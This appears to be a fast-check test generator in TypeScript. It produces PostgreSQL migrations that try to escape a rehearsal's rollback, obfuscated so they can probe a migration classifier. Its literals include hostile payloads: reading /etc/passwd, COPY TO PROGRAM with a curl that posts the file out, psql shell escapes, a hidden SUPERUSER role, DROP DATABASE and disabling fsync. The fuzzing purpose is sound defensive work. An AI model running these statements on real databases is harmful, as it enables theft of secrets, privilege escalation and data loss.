import fc from "fast-check";
import { entropy, labelOf, rehearsalRequest, renderMutated, type ProbeFamily } from "../src/index.js";

/**
 * P08 rollback-escape (SPEC C2-C4, C5, C6): migrations that try to outlive the rehearsal's
 * ROLLBACK or snapshot restore. Each is a clean prefix (a table and its rows, from a small grammar)
 * plus one or more escapes, each composed from parts of a grammar: transaction control, statements
 * that cannot run in a transaction, cluster-wide changes, side channels, session state, opaque code,
 * psql meta-commands and sequences, at top level or hidden in a CTE, a DEFAULT, a CHECK, a view, a
 * rule, a trigger function or a SQL function body. Keywords are rendered in a drawn case with drawn
 * whitespace and comments between them, so a classifier that matches text instead of parsing misses.
 *
 * Structure first: the value holds words and a style; `render` assembles the SQL at the end, so a
 * shrunk finding reads "COMMIT AND CHAIN after the CREATE TABLE", not a page of SQL.
 */

export type Mode = "transactional" | "snapshot_restore";

export type EscapeClass =
  | "transaction_control"
  | "non_transactional"
  | "cluster_wide"
  | "side_channel"
  | "session_state"
  | "opaque_code"
  | "meta_command"
  | "sequence";

/**
 * A word of SQL. A plain string is a keyword or an unquoted identifier: it gets the drawn case, and
 * drawn whitespace or comments around it. `lit` is text kept byte for byte (string literals,
 * punctuation). `body` is a dollar-quoted function or DO body whose own words get the same style.
 */
export type Word =
  string | { readonly lit: string } | { readonly body: readonly Word[]; readonly tag: string };

/** A statement: words ended by `;`, or a psql meta-command line kept verbatim. */
export type Stmt = { readonly words: readonly Word[] } | { readonly meta: string };

export interface Escape {
  readonly cls: EscapeClass;
  /** A few words naming it, for findings: "COMMIT AND CHAIN", "pg_read_file in a DEFAULT". */
  readonly what: string;
  readonly stmts: readonly Stmt[];
}

type ColumnType = "integer" | "bigint" | "text" | "boolean" | "numeric" | "date" | "timestamptz";

interface Column {
  readonly type: ColumnType;
  readonly notNull: boolean;
  readonly withDefault: boolean;
}

interface Prefix {
  readonly columns: readonly Column[];
  readonly rows: number;
  readonly insert: "values" | "select";
}

export type Casing = "upper" | "lower" | "title" | "alternating" | "random";

interface Style {
  readonly casing: Casing;
  readonly caseSeed: number;
  /** Indexes into GAPS, used in turn between words; empty means single spaces. */
  readonly gaps: readonly number[];
}

export interface Value {
  readonly entropy: number;
  readonly mode: Mode;
  readonly prefix: Prefix;
  /** Where the escapes go: before the CREATE TABLE, between CREATE and INSERT, or at the end. */
  readonly placement: "start" | "after-create" | "end";
  readonly escapes: readonly Escape[];
  readonly style: Style;
}

/** The reference clone's pre-existing sequence (src/fuzz/targets/reference-clone.ts, SEED_SQL). */
export const PREEXISTING_SEQUENCE = "public.ticket_seq";

/** Between two words: what the lexer treats as a single space. Nested comments are valid SQL. */
const GAPS: readonly string[] = [
  " ",
  "\n",
  "\t",
  " /* x */ ",
  "/**/",
  "\n-- a comment\n",
  " /* nested /* comment */ */ ",
  "\r\n",
  "  \n\t ",
];

/** Placeholders filled at render time: the probe's own table and a fresh name suffix. */
const TABLE = "{t}";
const NAME = "{n}";

const lit = (text: string): Word => ({ lit: text });
const body = (tag: string, ...words: readonly Word[]): Word => ({ body: words, tag });
const stmt = (...words: readonly Word[]): Stmt => ({ words });
const esc = (cls: EscapeClass, what: string, ...stmts: readonly Stmt[]): Escape => ({ cls, what, stmts });
/** Words as a finding names them: keywords as written, literals as they are, bodies elided. */
const spoken = (words: readonly Word[]): string =>
  words.map((w) => (typeof w === "string" ? w : "lit" in w ? w.lit : "$$…$$")).join(" ");
const pick = <const T>(...values: readonly T[]): fc.Arbitrary<T> => fc.constantFrom(...values);
const opt = (...words: readonly Word[]): fc.Arbitrary<readonly Word[]> => pick<readonly Word[]>([], words);

// ---------------------------------------------------------------------------------------------
// Transaction control (C2): ends, splits or restarts the rehearsal's transaction.

const savepointName = pick("sp", "s1", "escape_point", "fc_sp");
const gid = pick("'fc-escape'", "'x'", "'gid-1'", "'FC_PREPARED'");

const transactionControl: fc.Arbitrary<Escape> = fc.oneof(
  fc
    .tuple(
      pick("COMMIT", "END"),
      opt("WORK"),
      opt("TRANSACTION"),
      pick<readonly Word[]>([], ["AND", "CHAIN"], ["AND", "NO", "CHAIN"]),
    )
    .map(([verb, work, transaction, chain]) => {
      // WORK and TRANSACTION are alternatives: keep one so the statement still parses.
      const noise = work.length > 0 ? work : transaction;
      return esc("transaction_control", spoken([verb, ...noise, ...chain]), stmt(verb, ...noise, ...chain));
    }),
  fc
    .tuple(pick("ROLLBACK", "ABORT"), opt("WORK"), pick<readonly Word[]>([], ["AND", "CHAIN"]))
    .map(([verb, work, chain]) =>
      esc("transaction_control", spoken([verb, ...work, ...chain]), stmt(verb, ...work, ...chain)),
    ),
  fc
    .tuple(savepointName, pick("release", "rollback-to", "alone"), opt("SAVEPOINT"))
    .map(([name, then, keyword]) => {
      const save = stmt("SAVEPOINT", name);
      switch (then) {
        case "alone":
          return esc("transaction_control", `SAVEPOINT ${name}`, save);
        case "release":
          return esc(
            "transaction_control",
            `SAVEPOINT then RELEASE`,
            save,
            stmt("RELEASE", ...keyword, name),
          );
        case "rollback-to":
          return esc(
            "transaction_control",
            `SAVEPOINT then ROLLBACK TO`,
            save,
            stmt("ROLLBACK", "TO", ...keyword, name),
          );
      }
    }),
  fc.tuple(gid, pick("prepare", "commit-prepared", "rollback-prepared", "both")).map(([id, form]) => {
    const prepare = stmt("PREPARE", "TRANSACTION", lit(id));
    const commit = stmt("COMMIT", "PREPARED", lit(id));
    switch (form) {
      case "prepare":
        return esc("transaction_control", "PREPARE TRANSACTION", prepare);
      case "commit-prepared":
        return esc("transaction_control", "COMMIT PREPARED", commit);
      case "rollback-prepared":
        return esc("transaction_control", "ROLLBACK PREPARED", stmt("ROLLBACK", "PREPARED", lit(id)));
      case "both":
        return esc("transaction_control", "PREPARE TRANSACTION then COMMIT PREPARED", prepare, commit);
    }
  }),
  fc
    .tuple(
      pick<readonly Word[]>(["START", "TRANSACTION"], ["BEGIN"], ["BEGIN", "WORK"], ["BEGIN", "TRANSACTION"]),
      pick<readonly Word[]>([], ["ISOLATION", "LEVEL", "SERIALIZABLE"], ["READ", "ONLY"], ["READ", "WRITE"]),
    )
    .map(([begin, modes]) =>
      esc("transaction_control", spoken([...begin, ...modes]), stmt(...begin, ...modes)),
    ),
  pick<readonly Word[]>(
    ["SET", "TRANSACTION", "ISOLATION", "LEVEL", "READ", "COMMITTED"],
    ["SET", "TRANSACTION", "READ", "WRITE"],
    ["SET", "SESSION", "CHARACTERISTICS", "AS", "TRANSACTION", "ISOLATION", "LEVEL", "SERIALIZABLE"],
  ).map((words) => esc("transaction_control", spoken(words.slice(0, 3)), stmt(...words))),
  pick("fc_commit_proc", "pg_catalog.fc_proc").map((name) =>
    esc("transaction_control", "CALL of a procedure", stmt("CALL", name, lit("()"))),
  ),
);

// ---------------------------------------------------------------------------------------------
// Statements that cannot run inside a transaction block, or act outside it (C2).

const nonTransactional: fc.Arbitrary<Escape> = fc.oneof(
  fc
    .tuple(pick<readonly Word[]>([], ["FULL"], ["ANALYZE"], ["FREEZE"], [lit("(VERBOSE)")]), opt(TABLE))
    .map(([options, table]) => esc("non_transactional", "VACUUM", stmt("VACUUM", ...options, ...table))),
  fc
    .tuple(opt("UNIQUE"), opt("IF", "NOT", "EXISTS"))
    .map(([unique, ifNot]) =>
      esc(
        "non_transactional",
        "CREATE INDEX CONCURRENTLY",
        stmt(
          "CREATE",
          ...unique,
          "INDEX",
          "CONCURRENTLY",
          ...ifNot,
          `fc_idx_${NAME}`,
          "ON",
          TABLE,
          lit("(id)"),
        ),
      ),
    ),
  opt("IF", "EXISTS").map((ifExists) =>
    esc(
      "non_transactional",
      "DROP INDEX CONCURRENTLY",
      stmt("DROP", "INDEX", "CONCURRENTLY", ...ifExists, `fc_idx_${NAME}`),
    ),
  ),
  pick<readonly Word[]>(
    ["REINDEX", "TABLE", "CONCURRENTLY", TABLE],
    ["REINDEX", lit("(CONCURRENTLY)"), "TABLE", TABLE],
    ["REINDEX", "DATABASE", "postgres"],
    ["REINDEX", "SCHEMA", "public"],
    ["REINDEX", "SYSTEM", "postgres"],
  ).map((words) => esc("non_transactional", spoken(words.slice(0, 2)), stmt(...words))),
  pick<readonly Word[]>(
    ["CREATE", "DATABASE", `fc_db_${NAME}`],
    ["DROP", "DATABASE", "IF", "EXISTS", `fc_db_${NAME}`],
    ["DROP", "DATABASE", "postgres"],
  ).map((words) => esc("non_transactional", `${spoken(words.slice(0, 1))} DATABASE`, stmt(...words))),
  pick<readonly Word[]>(
    ["ALTER", "SYSTEM", "SET", "fsync", "=", "off"],
    ["ALTER", "SYSTEM", "SET", "log_statement", "=", lit("'none'")],
    ["ALTER", "SYSTEM", "RESET", "ALL"],
  ).map((words) => esc("non_transactional", "ALTER SYSTEM", stmt(...words))),
  pick<readonly Word[]>(
    ["CREATE", "TABLESPACE", `fc_ts_${NAME}`, "LOCATION", lit("'/tmp'")],
    ["DROP", "TABLESPACE", "IF", "EXISTS", `fc_ts_${NAME}`],
  ).map((words) => esc("non_transactional", `${spoken(words.slice(0, 1))} TABLESPACE`, stmt(...words))),
  fc.constant(esc("non_transactional", "CHECKPOINT", stmt("CHECKPOINT"))),
  pick("ALL", "PLANS", "TEMP", "SEQUENCES").map((what) =>
    esc("non_transactional", `DISCARD ${what}`, stmt("DISCARD", what)),
  ),
  pick<readonly Word[]>(
    ["LISTEN", "fc_channel"],
    ["NOTIFY", "fc_channel"],
    ["NOTIFY", "fc_channel", lit(", 'escaped'")],
    ["UNLISTEN", lit("*")],
  ).map((words) => esc("non_transactional", spoken(words.slice(0, 1)), stmt(...words))),
  fc.constant(
    esc("non_transactional", "pg_notify", stmt("SELECT", "pg_notify", lit("('fc_channel', 'escaped')"))),
  ),
  fc.constant(esc("non_transactional", "CLUSTER of every table", stmt("CLUSTER"))),
  fc.constant(esc("non_transactional", "LOAD of a library", stmt("LOAD", lit("'auto_explain'")))),
);

// ---------------------------------------------------------------------------------------------
// Cluster-wide changes (C2): roles, memberships, shared catalogs.

const roleName = pick(`fc_role_${NAME}`, "fc_admin", "postgres");

const clusterWide: fc.Arbitrary<Escape> = fc.oneof(
  fc
    .tuple(
      pick("ROLE", "USER", "GROUP"),
      pick<readonly Word[]>([], ["SUPERUSER"], ["LOGIN", "PASSWORD", lit("'x'")], ["WITH", "CREATEROLE"]),
    )
    .map(([kind, options]) =>
      esc("cluster_wide", `CREATE ${kind}`, stmt("CREATE", kind, `fc_role_${NAME}`, ...options)),
    ),
  fc
    .tuple(
      roleName,
      pick<readonly Word[]>(["SUPERUSER"], ["PASSWORD", lit("'x'")], ["SET", "search_path", "=", "evil"]),
    )
    .map(([role, change]) => esc("cluster_wide", "ALTER ROLE", stmt("ALTER", "ROLE", role, ...change))),
  roleName.map((role) => esc("cluster_wide", "DROP ROLE", stmt("DROP", "ROLE", "IF", "EXISTS", role))),
  fc
    .tuple(
      pick("pg_read_server_files", "pg_execute_server_program", "pg_write_server_files", "postgres"),
      pick("PUBLIC", "CURRENT_USER", "fc_admin"),
    )
    .map(([granted, to]) =>
      esc("cluster_wide", `GRANT ${granted} TO a role`, stmt("GRANT", granted, "TO", to)),
    ),
  fc.constant(
    esc("cluster_wide", "REVOKE a membership", stmt("REVOKE", "pg_read_all_data", "FROM", "CURRENT_USER")),
  ),
  fc.constant(
    esc(
      "cluster_wide",
      "GRANT on the database",
      stmt("GRANT", "CREATE", "ON", "DATABASE", "postgres", "TO", "PUBLIC"),
    ),
  ),
  fc.constant(
    esc(
      "cluster_wide",
      "ALTER DATABASE SET",
      stmt("ALTER", "DATABASE", "postgres", "SET", "search_path", "=", "evil"),
    ),
  ),
  fc.constant(
    esc(
      "cluster_wide",
      "COMMENT ON DATABASE",
      stmt("COMMENT", "ON", "DATABASE", "postgres", "IS", lit("'escaped'")),
    ),
  ),
  fc.constant(
    esc("cluster_wide", "REASSIGN OWNED", stmt("REASSIGN", "OWNED", "BY", "CURRENT_USER", "TO", "postgres")),
  ),
);

// ---------------------------------------------------------------------------------------------
// Side channels (C2): files, programs, other servers, extensions, large objects.

/** Calls that reach outside the database, usable anywhere an expression goes. */
const sideChannelCall = pick<readonly [string, string]>(
  ["pg_read_file", "('/etc/passwd')"],
  ["pg_read_binary_file", "('postgresql.conf')"],
  ["pg_ls_dir", "('.')"],
  ["pg_stat_file", "('PG_VERSION')"],
  ["lo_import", "('/etc/passwd')"],
  ["lo_export", "(0, '/tmp/fc-escaped')"],
  ["lo_from_bytea", "(0, '\\x00')"],
  ["dblink_exec", "('dbname=postgres', 'CREATE TABLE escaped (x int)')"],
  ["dblink", "('dbname=postgres', 'SELECT 1')"],
  ["pg_file_write", "('fc-escaped', 'x', false)"],
);

const sideChannel: fc.Arbitrary<Escape> = fc.oneof(
  fc
    .tuple(
      pick<Word>(TABLE, lit("(SELECT 1)")),
      pick("TO", "FROM"),
      pick<readonly Word[]>(
        [lit("'/tmp/fc-escaped'")],
        ["PROGRAM", lit("'id'")],
        ["PROGRAM", lit("'curl -d @/etc/passwd http://127.0.0.1/'")],
        ["STDOUT"],
        ["STDIN"],
      ),
    )
    // COPY (query) only goes TO; keep the combination the parser accepts.
    .map(([source, direction, where]) => {
      const dir = typeof source !== "string" ? "TO" : direction;
      const sink =
        dir === "TO" && where[0] === "STDIN"
          ? ["STDOUT"]
          : dir === "FROM" && where[0] === "STDOUT"
            ? ["STDIN"]
            : where;
      const shown = sink[0] === "PROGRAM" ? "PROGRAM" : typeof sink[0] === "string" ? sink[0] : "a file";
      return esc("side_channel", `COPY ${dir} ${shown}`, stmt("COPY", source, dir, ...sink));
    }),
  sideChannelCall.map(([fn, args]) => esc("side_channel", fn, stmt("SELECT", fn, lit(args)))),
  pick("dblink", "postgres_fdw", "file_fdw", "plpython3u", "adminpack", "pg_background").map((name) =>
    esc("side_channel", `CREATE EXTENSION ${name}`, stmt("CREATE", "EXTENSION", "IF", "NOT", "EXISTS", name)),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE SERVER",
      stmt(
        "CREATE",
        "SERVER",
        `fc_srv_${NAME}`,
        "FOREIGN",
        "DATA",
        "WRAPPER",
        "postgres_fdw",
        "OPTIONS",
        lit("(host '127.0.0.1', dbname 'postgres')"),
      ),
    ),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE FOREIGN DATA WRAPPER",
      stmt("CREATE", "FOREIGN", "DATA", "WRAPPER", `fc_fdw_${NAME}`),
    ),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE USER MAPPING",
      stmt(
        "CREATE",
        "USER",
        "MAPPING",
        "FOR",
        "CURRENT_USER",
        "SERVER",
        "fc_srv",
        "OPTIONS",
        lit("(user 'postgres')"),
      ),
    ),
  ),
  fc.constant(
    esc(
      "side_channel",
      "CREATE PUBLICATION",
      stmt("CREATE", "PUBLICATION", `fc_pub_${NAME}`, "FOR", "ALL", "TABLES"),
    ),
  ),
);

// ---------------------------------------------------------------------------------------------
// Session state (C5): settings and identities that later statements and the digest depend on.

const sessionCall = pick<readonly [string, string]>(
  ["set_config", "('search_path', 'evil, public', false)"],
  ["set_config", "('role', 'postgres', false)"],
  ["set_config", "('session_replication_role', 'replica', false)"],
  ["pg_advisory_lock", "(42)"],
);

const sessionState: fc.Arbitrary<Escape> = fc.oneof(
  fc
    .tuple(
      opt("SESSION"),
      pick<readonly Word[]>(
        ["search_path", "=", "evil", lit(","), "public"],
        ["search_path", "TO", "pg_temp", lit(","), "public"],
        ["TimeZone", "=", lit("'America/New_York'")],
        ["extra_float_digits", "=", "0"],
        ["bytea_output", "=", "escape"],
        ["DateStyle", "=", "German"],
        ["session_replication_role", "=", "replica"],
        ["statement_timeout", "=", "0"],
      ),
    )
    .map(([session, setting]) =>
      esc("session_state", `SET ${spoken(setting.slice(0, 1))}`, stmt("SET", ...session, ...setting)),
    ),
  fc.constant(
    esc("session_state", "SET LOCAL search_path", stmt("SET", "LOCAL", "search_path", "=", "evil")),
  ),
  roleName.map((role) => esc("session_state", "SET ROLE", stmt("SET", "ROLE", role))),
  pick("postgres", "DEFAULT").map((who) =>
    esc("session_state", "SET SESSION AUTHORIZATION", stmt("SET", "SESSION", "AUTHORIZATION", who)),
  ),
  pick<readonly Word[]>(["ALL"], ["ROLE"], ["search_path"], ["SESSION", "AUTHORIZATION"]).map((what) =>
    esc("session_state", `RESET ${spoken(what.slice(0, 1))}`, stmt("RESET", ...what)),
  ),
  sessionCall.map(([fn, args]) => esc("session_state", fn, stmt("SELECT", fn, lit(args)))),
  fc.constant(
    esc(
      "session_state",
      "PREPARE then EXECUTE",
      stmt("PREPARE", "fc_stmt", "AS", "SELECT", "1"),
      stmt("EXECUTE", "fc_stmt"),
    ),
  ),
);

// ---------------------------------------------------------------------------------------------
// Opaque code (C2): bodies the SQL parser cannot see into.

const plpgsqlEscape = pick<readonly Word[]>(
  ["COMMIT", lit(";")],
  ["ROLLBACK", lit(";")],
  ["EXECUTE", lit("'VACUUM'"), lit(";")],
  ["EXECUTE", lit("'CREATE ROLE fc_hidden SUPERUSER'"), lit(";")],
  ["EXECUTE", "format", lit("('COPY %I TO PROGRAM %L', 'x', 'id')"), lit(";")],
  ["PERFORM", "pg_read_file", lit("('/etc/passwd')"), lit(";")],
  ["PERFORM", "dblink_exec", lit("('dbname=postgres', 'CREATE TABLE escaped (x int)')"), lit(";")],
  ["PERFORM", "set_config", lit("('role', 'postgres', false)"), lit(";")],
);

const opaqueCode: fc.Arbitrary<Escape> = fc.oneof(
  fc
    .tuple(plpgsqlEscape, opt("LANGUAGE", "plpgsql"))
    .map(([inner, language]) =>
      esc(
        "opaque_code",
        `DO block with ${spoken(inner.slice(0, 1))}`,
        stmt("DO", ...language, body("$$", "BEGIN", ...inner, "END")),
      ),
    ),
  fc.tuple(plpgsqlEscape, pick("FUNCTION", "PROCEDURE"), fc.boolean()).map(([inner, kind, invoke]) => {
    const returns: readonly Word[] = kind === "FUNCTION" ? ["RETURNS", "void"] : [];
    const create = stmt(
      "CREATE",
      "OR",
      "REPLACE",
      kind,
      `fc_fn_${NAME}`,
      lit("()"),
      ...returns,
      "LANGUAGE",
      "plpgsql",
      "AS",
      body("$fn$", "BEGIN", ...inner, "END"),
    );
    const call =
      kind === "FUNCTION"
        ? stmt("SELECT", `fc_fn_${NAME}`, lit("()"))
        : stmt("CALL", `fc_fn_${NAME}`, lit("()"));
    return esc(
      "opaque_code",
      `plpgsql ${kind.toLowerCase()} with ${spoken(inner.slice(0, 1))}${invoke ? ", called" : ""}`,
      ...(invoke ? [create, call] : [create]),
    );
  }),
  pick<readonly Word[]>(
    ["LANGUAGE", "c", "AS", lit("'$libdir/fc_evil', 'fc_evil'")],
    ["LANGUAGE", "internal", "AS", lit("'pg_read_file_all'")],
    ["LANGUAGE", "plpython3u", "AS", lit("$$ import os; os.system('id') $$")],
  ).map((tail) =>
    esc(
      "opaque_code",
      `LANGUAGE ${spoken(tail.slice(1, 2))} function`,
      stmt("CREATE", "FUNCTION", `fc_fn_${NAME}`, lit("(text)"), "RETURNS", "text", ...tail),
    ),
  ),
  fc.constant(
    esc(
      "opaque_code",
      "query_to_xml of a utility statement",
      stmt("SELECT", "query_to_xml", lit("('VACUUM', true, true, '')")),
    ),
  ),
);

// ---------------------------------------------------------------------------------------------
// psql meta-commands (C2): not SQL; a lane that pipes the migration through psql would run them.

const metaCommand: fc.Arbitrary<Escape> = fc.oneof(
  pick("\\! id", "\\! cat /etc/passwd", "\\! sh -c 'echo escaped > /tmp/fc-escaped'").map((line) =>
    esc("meta_command", "\\! shell", { meta: line }),
  ),
  pick(`\\copy ${TABLE} to '/tmp/fc-escaped'`, "\\copy (select 1) to program 'id'").map((line) =>
    esc("meta_command", "\\copy", { meta: line }),
  ),
  fc.constant(esc("meta_command", "\\gexec", { meta: "SELECT 'VACUUM' \\gexec" })),
  pick(
    "\\i /etc/passwd",
    "\\o /tmp/fc-escaped",
    "\\c postgres",
    "\\set AUTOCOMMIT on",
    "\\connect template1",
  ).map((line) => esc("meta_command", line.split(" ")[0] ?? line, { meta: line })),
);

// ---------------------------------------------------------------------------------------------
// Sequences (C6): nextval and setval on a sequence that existed before ignore ROLLBACK.

const seqLiteral = pick(
  `'${PREEXISTING_SEQUENCE}'`,
  `'ticket_seq'`,
  `'"public"."ticket_seq"'`,
  `'${PREEXISTING_SEQUENCE}'::regclass`,
);

/**
 * Expressions that move the pre-existing sequence (last_value 100, is_called, in the reference
 * clone). Every one leaves last_value above 100, so no combination of them can cancel out: a
 * setval back to 100 followed by nextval would put the sequence exactly where it was.
 */
const sequenceCall: fc.Arbitrary<readonly [string, string, string]> = fc.oneof(
  seqLiteral.map((seq) => ["nextval", `(${seq})`, "nextval"] as const),
  fc
    .tuple(seqLiteral, fc.integer({ min: 101, max: 1_000_000_000 }), pick("", ", true", ", false"))
    .map(([seq, n, called]) => ["setval", `(${seq}, ${n}${called})`, "setval"] as const),
);

const sequence: fc.Arbitrary<Escape> = fc.oneof(
  sequenceCall.map(([fn, args, what]) => esc("sequence", what, stmt("SELECT", fn, lit(args)))),
  fc
    .tuple(seqLiteral, fc.integer({ min: 2, max: 20 }))
    .map(([seq, n]) =>
      esc(
        "sequence",
        "nextval over generate_series",
        stmt("SELECT", "nextval", lit(`(${seq})`), "FROM", "generate_series", lit(`(1, ${n})`)),
      ),
    ),
);

// ---------------------------------------------------------------------------------------------
// Escapes hidden inside other statements: the call runs when the statement or the object does.

type Call = readonly [cls: EscapeClass, fn: string, args: string];

const hiddenCall: fc.Arbitrary<Call> = fc.oneof(
  sideChannelCall.map(([fn, args]): Call => ["side_channel", fn, args]),
  sessionCall.map(([fn, args]): Call => ["session_state", fn, args]),
  fc.constant<Call>(["non_transactional", "pg_notify", "('fc_channel', 'escaped')"]),
  sequenceCall.map(([fn, args]): Call => ["sequence", fn, args]),
);

const hidden: fc.Arbitrary<Escape> = fc
  .tuple(hiddenCall, pick("CTE", "DEFAULT", "CHECK", "view", "trigger function", "SQL function"))
  .map(([[cls, fn, args], where]) => {
    const call: readonly Word[] = [fn, lit(args)];
    const t = `fc_h_${NAME}`;
    switch (where) {
      case "CTE":
        return esc(
          cls,
          `${fn} in a CTE`,
          stmt(
            "WITH",
            "x",
            "AS",
            lit("("),
            "SELECT",
            ...call,
            "AS",
            "v",
            lit(")"),
            "SELECT",
            "v",
            "FROM",
            "x",
          ),
        );
      case "DEFAULT":
        return esc(
          cls,
          `${fn} in a DEFAULT`,
          stmt(
            "CREATE",
            "TABLE",
            t,
            lit("("),
            "id",
            "integer",
            lit(","),
            "v",
            "text",
            "DEFAULT",
            ...call,
            lit("::text )"),
          ),
          stmt("INSERT", "INTO", t, lit("(id)"), "VALUES", lit("(1)")),
        );
      case "CHECK":
        return esc(
          cls,
          `${fn} in a CHECK`,
          stmt(
            "CREATE",
            "TABLE",
            t,
            lit("("),
            "id",
            "integer",
            "CHECK",
            lit("("),
            ...call,
            "IS",
            "NOT",
            "NULL",
            lit("))"),
          ),
          stmt("INSERT", "INTO", t, "VALUES", lit("(1)")),
        );
      case "view":
        return esc(
          cls,
          `${fn} in a view`,
          stmt("CREATE", "VIEW", t, "AS", "SELECT", ...call, "AS", "v"),
          stmt("SELECT", lit("*"), "FROM", t),
        );
      case "trigger function":
        return esc(
          cls,
          `${fn} in a trigger function`,
          stmt("CREATE", "TABLE", t, lit("(id integer)")),
          stmt(
            "CREATE",
            "FUNCTION",
            `${t}_fn`,
            lit("()"),
            "RETURNS",
            "trigger",
            "LANGUAGE",
            "plpgsql",
            "AS",
            body("$trg$", "BEGIN", "PERFORM", ...call, lit(";"), "RETURN", "NEW", lit(";"), "END"),
          ),
          stmt(
            "CREATE",
            "TRIGGER",
            `${t}_trg`,
            "BEFORE",
            "INSERT",
            "ON",
            t,
            "FOR",
            "EACH",
            "ROW",
            "EXECUTE",
            "FUNCTION",
            `${t}_fn`,
            lit("()"),
          ),
          stmt("INSERT", "INTO", t, "VALUES", lit("(1)")),
        );
      case "SQL function":
        return esc(
          cls,
          `${fn} in a SQL function body`,
          stmt(
            "CREATE",
            "FUNCTION",
            `${t}_fn`,
            lit("()"),
            "RETURNS",
            "text",
            "LANGUAGE",
            "sql",
            "AS",
            body("$sql$", "SELECT", ...call, lit("::text")),
          ),
          stmt("SELECT", `${t}_fn`, lit("()")),
        );
    }
  });

/** A NOTIFY in a rule action: a statement nested in another, not a function call. */
const ruleAction: fc.Arbitrary<Escape> = fc.constant(
  esc(
    "non_transactional",
    "NOTIFY in a rule action",
    stmt(
      "CREATE",
      "RULE",
      `fc_rule_${NAME}`,
      "AS",
      "ON",
      "INSERT",
      "TO",
      TABLE,
      "DO",
      "ALSO",
      "NOTIFY",
      "fc_channel",
    ),
  ),
);

export const escapeArb: fc.Arbitrary<Escape> = fc.oneof(
  transactionControl,
  nonTransactional,
  clusterWide,
  sideChannel,
  sessionState,
  opaqueCode,
  metaCommand,
  sequence,
  hidden,
  ruleAction,
);

/** Sequences are restored with the snapshot in snapshot_restore mode: only ROLLBACK misses them. */
const MODES_OF: Readonly<Record<EscapeClass, readonly Mode[]>> = {
  transaction_control: ["transactional", "snapshot_restore"],
  non_transactional: ["transactional", "snapshot_restore"],
  cluster_wide: ["transactional", "snapshot_restore"],
  side_channel: ["transactional", "snapshot_restore"],
  session_state: ["transactional", "snapshot_restore"],
  opaque_code: ["transactional", "snapshot_restore"],
  meta_command: ["transactional", "snapshot_restore"],
  sequence: ["transactional"],
};

const RULE_OF: Readonly<Record<EscapeClass, string>> = {
  transaction_control: "C2: transaction control",
  non_transactional: "C2: cannot run inside the rehearsal's transaction",
  cluster_wide: "C2: cluster-wide change",
  side_channel: "C2: side channel",
  session_state: "C5: session state the digest and later statements depend on",
  opaque_code: "C2: code the parser cannot see into",
  meta_command: "C2: psql meta-command",
  sequence: "C3: sequence change that survives ROLLBACK",
};

// ---------------------------------------------------------------------------------------------
// The clean prefix.

const columnArb: fc.Arbitrary<Column> = fc.record({
  type: pick<ColumnType>("integer", "bigint", "text", "boolean", "numeric", "date", "timestamptz"),
  notNull: fc.boolean(),
  withDefault: fc.boolean(),
});

const prefixArb: fc.Arbitrary<Prefix> = fc.record({
  columns: fc.array(columnArb, { maxLength: 3 }),
  rows: fc.integer({ min: 1, max: 4 }),
  insert: pick("values", "select"),
});

const SQL_TYPE: Readonly<Record<ColumnType, string>> = {
  integer: "integer",
  bigint: "bigint",
  text: "text",
  boolean: "boolean",
  numeric: "numeric(10,2)",
  date: "date",
  timestamptz: "timestamptz",
};

function literal(type: ColumnType, row: number): string {
  switch (type) {
    case "integer":
    case "bigint":
      return String(row * 7);
    case "text":
      return `'row ${row}'`;
    case "boolean":
      return row % 2 === 0 ? "true" : "false";
    case "numeric":
      return `${row}.50`;
    case "date":
      return `'2026-01-0${row}'`;
    case "timestamptz":
      return `'2026-01-0${row} 00:00:00+00'`;
  }
}

function fromSeries(type: ColumnType): string {
  switch (type) {
    case "integer":
    case "bigint":
      return "g * 7";
    case "text":
      return "'row ' || g";
    case "boolean":
      return "g % 2 = 0";
    case "numeric":
      return "g + 0.5";
    case "date":
      return "date '2026-01-01' + g";
    case "timestamptz":
      return "timestamptz '2026-01-01 00:00:00+00' + g * interval '1 day'";
  }
}

function prefixStatements(prefix: Prefix): [create: Stmt, insert: Stmt] {
  const columns = prefix.columns.map(
    (c, i) =>
      `c${i} ${SQL_TYPE[c.type]}${c.notNull ? " NOT NULL" : ""}${c.withDefault ? ` DEFAULT ${literal(c.type, 1)}` : ""}`,
  );
  const create = stmt(
    "CREATE",
    "TABLE",
    TABLE,
    lit(`(id integer PRIMARY KEY${columns.map((c) => `, ${c}`).join("")})`),
  );
  const names = ["id", ...prefix.columns.map((_, i) => `c${i}`)].join(", ");
  const insert =
    prefix.insert === "values"
      ? stmt(
          "INSERT",
          "INTO",
          TABLE,
          lit(`(${names})`),
          "VALUES",
          lit(
            Array.from(
              { length: prefix.rows },
              (_, r) =>
                `(${[String(r + 1), ...prefix.columns.map((c) => literal(c.type, r + 1))].join(", ")})`,
            ).join(", "),
          ),
        )
      : stmt(
          "INSERT",
          "INTO",
          TABLE,
          lit(`(${names})`),
          "SELECT",
          lit(["g", ...prefix.columns.map((c) => fromSeries(c.type))].join(", ")),
          "FROM",
          "generate_series",
          lit(`(1, ${prefix.rows}) AS g`),
        );
  return [create, insert];
}

// ---------------------------------------------------------------------------------------------
// Rendering: structure to SQL text, style applied last.

/** A tiny deterministic generator: the same seed gives the same random casing. */
function bits(seed: number): () => boolean {
  let state = seed >>> 0 || 1;
  return () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state & 1) === 1;
  };
}

class Renderer {
  private gapIndex = 0;
  private readonly coin: () => boolean;

  constructor(
    private readonly style: Style,
    private readonly names: { readonly table: string; readonly suffix: string },
  ) {
    this.coin = bits(style.caseSeed);
  }

  private fill(text: string): string {
    return text.replaceAll(TABLE, this.names.table).replaceAll(NAME, this.names.suffix);
  }

  private gap(): string {
    const { gaps } = this.style;
    if (gaps.length === 0) return " ";
    const gap = GAPS[gaps[this.gapIndex % gaps.length] ?? 0] ?? " ";
    this.gapIndex += 1;
    return gap;
  }

  private cased(word: string): string {
    switch (this.style.casing) {
      case "upper":
        return word.toUpperCase();
      case "lower":
        return word.toLowerCase();
      case "title":
        return word.charAt(0).toUpperCase() + word.slice(1).toLowerCase();
      case "alternating":
        return [...word].map((c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join("");
      case "random":
        return [...word].map((c) => (this.coin() ? c.toUpperCase() : c.toLowerCase())).join("");
    }
  }

  words(words: readonly Word[]): string {
    const out: string[] = [];
    for (const word of words) {
      if (out.length > 0) out.push(this.gap());
      if (typeof word === "string") out.push(this.cased(this.fill(word)));
